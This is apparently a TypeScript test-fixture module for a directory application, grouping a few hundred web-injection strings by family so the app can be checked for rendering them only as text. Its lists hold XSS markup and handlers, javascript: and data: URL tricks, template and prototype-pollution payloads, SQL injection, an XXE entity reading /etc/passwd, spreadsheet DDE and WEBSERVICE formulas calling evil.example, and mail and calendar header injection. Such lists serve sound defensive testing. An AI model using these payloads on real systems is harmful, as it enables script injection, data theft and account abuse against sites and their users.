/** Texts that would run if anything took them for markup, an address or a template: names and sentences of a directory are only text. */

const CALLS = ['alert(1)', 'alert`1`', 'window.run=1'];
const MARKUP = [
  '<script>X</script>', '</script><script>X</script>', '<scr<script>ipt>X</scr</script>ipt>', '<ScRiPt>X</sCrIpT>', '<img src=x onerror=X>', '<img src=x onerror="X">',
  '<img/src=x/onerror=X>', '<img src="x` `<script>X</script>"` `>', '"><img src=x onerror=X>', "'><img src=x onerror=X>", '`><img src=x onerror=X>', '<svg onload=X>', '<svg/onload=X>',
  '<svg><script>X</script></svg>', '<svg><animate onbegin=X attributeName=x dur=1s>', '<svg><a xlink:href="javascript:X"><text x=20 y=20>ici</text></a>', '<math><mtext><img src onerror=X></mtext></math>',
  '<body onload=X>', '<iframe src="javascript:X"></iframe>', '<iframe srcdoc="<script>X</script>"></iframe>', '<object data="javascript:X"></object>', '<embed src="javascript:X">',
  '<a href="javascript:X">ici</a>', '<form action="javascript:X"><button>ici</button></form>', '<button formaction="javascript:X">ici</button>', '<input autofocus onfocus=X>',
  '<select autofocus onfocus=X>', '<details open ontoggle=X>', '<video><source onerror=X></video>', '<audio src onerror=X>', '<marquee onstart=X>', '<style>@import"javascript:X"</style>',
  '<link rel=stylesheet href="javascript:X">', '<base href="javascript:X//">', '<meta http-equiv=refresh content="0;url=javascript:X">', '<template><script>X</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=X>">', '<!--><img src=x onerror=X>-->', '<![CDATA[<img src=x onerror=X>]]>', '<xss id=x tabindex=1 onfocus=X></xss>',
];
const OTHER = [
  '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', 'javascript:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', '//evil.example/x', 'https://evil.example/" onclick="alert(1)', '${alert(1)}', '{{alert(1)}}', '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}', '<%= alert(1) %>', '?lit$123$', '<!--?lit$0-->', '<?lit$0?>', '{"_$litType$":1,"strings":["<img src=x onerror=alert(1)>"],"values":[]}', '__proto__', 'constructor',
  '&lt;img src=x onerror=alert(1)&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '%3Cscript%3Ealert(1)%3C/script%3E', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '＜script＞alert(1)＜/script＞',
  "');alert(1);//", '";alert(1);//', '`;alert(1);//', '</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>', '</style><script>alert(1)</script>', ']]><script>alert(1)</script>',
];

// Out of an attribute: between double quotes, single quotes, backticks, none, in a style, in a list of classes, in srcset.
const ATTRIBUTES = [
  '"><svg onload=alert(1)>', "'><svg onload=alert(1)>", '"/><script>alert(1)</script>', "'/><script>alert(1)</script>", '" onfocus="alert(1)" tabindex="1" id="x', "' onfocus='alert(1)' tabindex='1' id='x",
  'x onmouseover=alert(1)', 'x/onmouseover=alert(1)', 'x\u00a0onmouseover=alert(1)', '` onmouseover=`alert(1)', '"onclick=alert(1)//', "'onclick=alert(1)//", '" style="animation-name:x" onanimationstart="alert(1)',
  '" style="background:url(javascript:alert(1))', "' style='width:expression(alert(1))", '" formaction="javascript:alert(1)" type="submit', '" srcdoc="<script>alert(1)</script>', '" src="x" onerror="alert(1)',
  '" href="javascript:alert(1)', '" target="_blank" ping="https://evil.example/', '" is="pana-x" onload="alert(1)', '" slot="x" part="x" onclick="alert(1)', '" data-x="\'"--!><img src=x onerror=alert(1)>', 'x" y=\'z\'>',
  '"\'`><img src=x onerror=alert(1)>', '</a><a href="javascript:alert(1)">', '"></option></select><img src=x onerror=alert(1)>', '"></button><form action="https://evil.example/">',
];
// Addresses that run, and the ways to spell them that readers of addresses forgive.
const SCHEMES = [
  'javascript://%0Aalert(1)', 'javascript:/*--></title></style></textarea><svg onload=alert(1)>', 'javascript:alert(document.domain)//https://maison.example.org', 'JAVASCRIPT:alert(1)', 'javascript&colon;alert(1)',
  'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript%3Aalert(1)', '%6Aavascript:alert(1)',
  'jav%09ascript:alert(1)', 'view-source:javascript:alert(1)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', 'data:application/xhtml+xml,<x/>', 'DATA:text/html,x',
  'blob:https://evil.example/1', 'file:///etc/passwd', 'ftp://evil.example/', 'mailto:x@example.org?bcc=y@example.org', 'tel:+33%20onclick', 'about:blank', 'filesystem:https://evil.example/x', 'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!', 'ms-its:x', 'livescript:alert(1)', 'mocha:alert(1)', '\\\\evil.example\\x', '/\\evil.example', '///evil.example', 'ici https:evil.example', 'ici https:///evil.example', 'ici https://maison.example.org@evil.example/',
  'ici https://evil.example\\@maison.example.org', 'ici https://[::1]/', 'ici http://0x7f000001/', 'ici https://xn--evil.example', '?next=https://evil.example/', '#"><img src=x onerror=alert(1)>',
];
// Elements of other languages that HTML lets in, and the seams between their parsers.
const FOREIGN = [
  '<svg><set attributeName=onload to=alert(1)>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><title><style></title><img src=x onerror=alert(1)>', '<svg><style><img src=x onerror=alert(1)></style>', '<svg><desc><table><img src=x onerror=alert(1)>', '<svg><image href=x onerror=alert(1)>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', '<svg:script>alert(1)</svg:script>', '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
  '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<math href="javascript:alert(1)">ici</math>', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg><a href="javascript:alert(1)"><text>x',
];
// What a page made of text would do by itself: handlers nobody has to click for, and elements that wait for one.
const HANDLERS = [
  '<img src=x onerror=alert&lpar;1&rpar;>', '<img src onload=alert(1)>', '<img srcset=x onerror=alert(1)>', '<picture><source srcset=x><img onerror=alert(1)></picture>', '<input type=image src=x onerror=alert(1)>',
  '<div onpointerenter=alert(1)>x</div>', '<div contenteditable onblur=alert(1)>x</div>', '<div onwheel=alert(1)>x</div>', '<p onbeforematch=alert(1) hidden=until-found>x</p>', '<dialog open onclose=alert(1)>x</dialog>',
  '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<video autoplay onplay=alert(1) src=x></video>', '<video poster="javascript:alert(1)">', '<track onerror=alert(1) src=x>', '<body onpageshow=alert(1)>',
  '<frameset onload=alert(1)>', '<style onload=alert(1)></style>', '<script src="data:,alert(1)"></script>', '<script type=module>import "data:text/javascript,alert(1)"</script>', '<link rel=modulepreload href=data:,x onload=alert(1)>',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">', '<iframe name="x" onload=alert(1)>', '<portal src="javascript:alert(1)">', '<button popovertarget=x>x</button><p popover id=x ontoggle=alert(1)>',
  '<slot onslotchange=alert(1)>x</slot>', '<pana-map onclick=alert(1)></pana-map>', '<template shadowrootmode=open><img src=x onerror=alert(1)></template>', '<a id=x href=javascript:alert(1)>x</a>', '<img name=body><img name=cookie>',
  '<form id=document><input name=cookie></form>', '<table background="javascript:alert(1)">', '<plaintext>', '<xmp><img src=x onerror=alert(1)></xmp>', '<listing><img src=x onerror=alert(1)></listing>', '<noembed><img src=x onerror=alert(1)></noembed>',
];
// Escaped already, once, twice or by half: what is decoded once too often.
const ENTITIES = [
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;', '&lt;script&gt;alert(1)&lt;/script&gt;', '&LT;script&GT;alert(1)', '&lt script&gt alert(1)', '&#x3c;img src=x onerror=alert(1)&#x3e;', '&#0000060;script&#0000062;alert(1)', '&quot; onclick=&quot;alert(1)',
  '&apos;&#39;&#x27;', '&nbsp;&notit;&copy', 'a & b &c', 'x&&y', 'x&;y', '&#;', '&#x;', '&#xD800;', '&#0;', '&unknown;', '%253Cscript%253Ealert(1)', '%u003Cscript%u003E', '\\x3cscript\\x3ealert(1)', '\\74script\\76', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];
// Engines of templates, strings of scripts and of data, prototypes.
const TEMPLATES = [
  '{{7*7}}', '{{$on.constructor("alert(1)")()}}', '{%raw%}{{x}}{%endraw%}', '${{7*7}}', '<%=7*7%>', '*{7*7}', '@(7*7)', '[[${7*7}]]', '{{{x}}}', '{#if}', ':::html', '`${alert(1)}`', '"+alert(1)+"', "'-alert(1)-'", '\\"-alert(1)}//', "\\'-alert(1)//",
  'a$&b', 'a$1b', 'a$`b', "a$'b", 'a$$b', '%s%n%d', 'toString', 'hasOwnProperty', '__proto__[x]=1', '{"__proto__":{"x":1}}', '<!--?lit$123456789$-->', '{{lit-x}}', "'; DROP TABLE structures; --", '" OR 1=1 --', 'a" OR "a"="a', 'NEAR(x, 9)', 'name:*', '^x OR y AND NOT z',
];
// Out of a script of data: JSON-LD of the pages, JSON in a page.
const DATA = [
  '</script ><img src=x onerror=alert(1)>', '</SCRIPT><img src=x onerror=alert(1)>', '</script/x><svg onload=alert(1)>', '<!--<script>', '<!--<script>alert(1)</script>-->', '<!-- --!><img src=x onerror=alert(1)>', '"},{"@type":"Event","name":"x"},{"x":"',
  '"}</script><script>alert(1)//', '\\"}</script>', '"@context":"https://evil.example/"', '*/alert(1)/*', '--></script><script>alert(1)', ']]>]]&gt;', '<script>/*',
];
// Spreadsheets take these for formulas; the signs that begin one have wide twins.
const FORMULAS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '=cmd|\'/C calc\'!A0', '=HYPERLINK("https://evil.example/?"&A1,"ici")', '=IMPORTXML("https://evil.example","//a")', '=WEBSERVICE("https://evil.example")', '+cmd|\'/C calc\'!A0', '-2+3+cmd|\'/C calc\'!A0',
  '@SUM(1+1)*cmd|\'/C calc\'!A0', '=DDE("cmd";"/C calc";"x")', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '";=1+1;"', '",=1+1,"', '\'=1+1', ';=1+1', '|=1+1', '=1+1";"=1+1', 'x""y', '"a""b',
];
// Mails, addresses of answers and calendars are made of lines: what pretends to begin one.
const LINES = [
  'x%0d%0aBcc:y@example.org', 'x\\r\\nBcc: y@example.org', '=?utf-8?q?=0d=0aBcc:y@example.org?=', '=?utf-8?B?DQpCY2M6?=', 'Subject: autre', 'From x@example.org', '<x@example.org>', 'x@example.org, y@example.org', '"x" <y@example.org>',
  'END:VEVENT', 'BEGIN:VALARM', 'x\\nATTENDEE:mailto:y@example.org', 'x;CN=y:z', 'DTSTART:20270101T000000Z', 'x\\,y\\;z\\\\', 'ATTACH;FMTTYPE=text/html:https://evil.example/', 'X-ALT-DESC;FMTTYPE=text/html:<b>x</b>', 'HTTP/1.1 OK',
];

/** Families of what stays on one line and is made of letters one sees: any field of the directory takes them. */
export const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  markup: MARKUP.flatMap((text) => CALLS.map((call) => text.replaceAll('X', call))), other: OTHER, attributes: ATTRIBUTES, schemes: SCHEMES, foreign: FOREIGN, handlers: HANDLERS, entities: ENTITIES, templates: TEMPLATES, data: DATA,
  formulas: FORMULAS, lines: LINES,
};

/** More than three hundred, all different (`payloads.test.ts` counts them). */
export const PAYLOADS: readonly string[] = [...new Set(Object.values(FAMILIES).flat())];

/** Some of each family: for what takes a browser through several pages for each text. Whatever shows the same text in one pass takes all. */
export const SAMPLE: readonly string[] = Object.values(FAMILIES).flatMap((texts) => texts.filter((_, i) => i % 9 === 0));

/** Texts of signs nobody sees: line ends, controls, directions, joiners. Fields of one line refuse or mend them; a sink must bear them whatever let them in. */
export const UNSEEN: readonly string[] = [
  'x\r\nBcc: y@example.org', 'x\nBcc: y@example.org', 'x\rBcc: y@example.org', 'x\r\n\r\n<script>alert(1)</script>', 'x\r\n.\r\nMAIL FROM:<y@example.org>', 'x\r\nContent-Type: text/html', 'x\r\nSet-Cookie: a=b', 'x\u0085Bcc: y', 'x\u000bBcc: y', 'x\u000cBcc: y',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT', 'x\r\n ATTENDEE:mailto:y@example.org', '\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', ' =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\u0000<script>alert(1)</script>', '<scr\u0000ipt>alert(1)</script>', 'java\u0000script:alert(1)',
  'java\nscript:alert(1)', 'java\r\nscript:alert(1)', '\u0001javascript:alert(1)', '\u001bjavascript:alert(1)', '<img\u000csrc=x\u000conerror=alert(1)>', '<img\nsrc=x\nonerror=alert(1)>', '\u202egpj.exe', '\u202dabc\u202c', '\u2066abc\u2069', '\u200eabc\u200f',
  '\u2028alert(1)', '\u2029alert(1)', 'a\u200bb', 'a\u200db', 'a\u2060b', '\ufeffa', 'a\u00adb', '\u061c1', '\u{e0041}\u{e0042}', '\u0007\u0008', '\u007f', '\u009b31m', '\u001b[31m', '\ufffe', '\ufff9a\ufffab\ufffb',
];
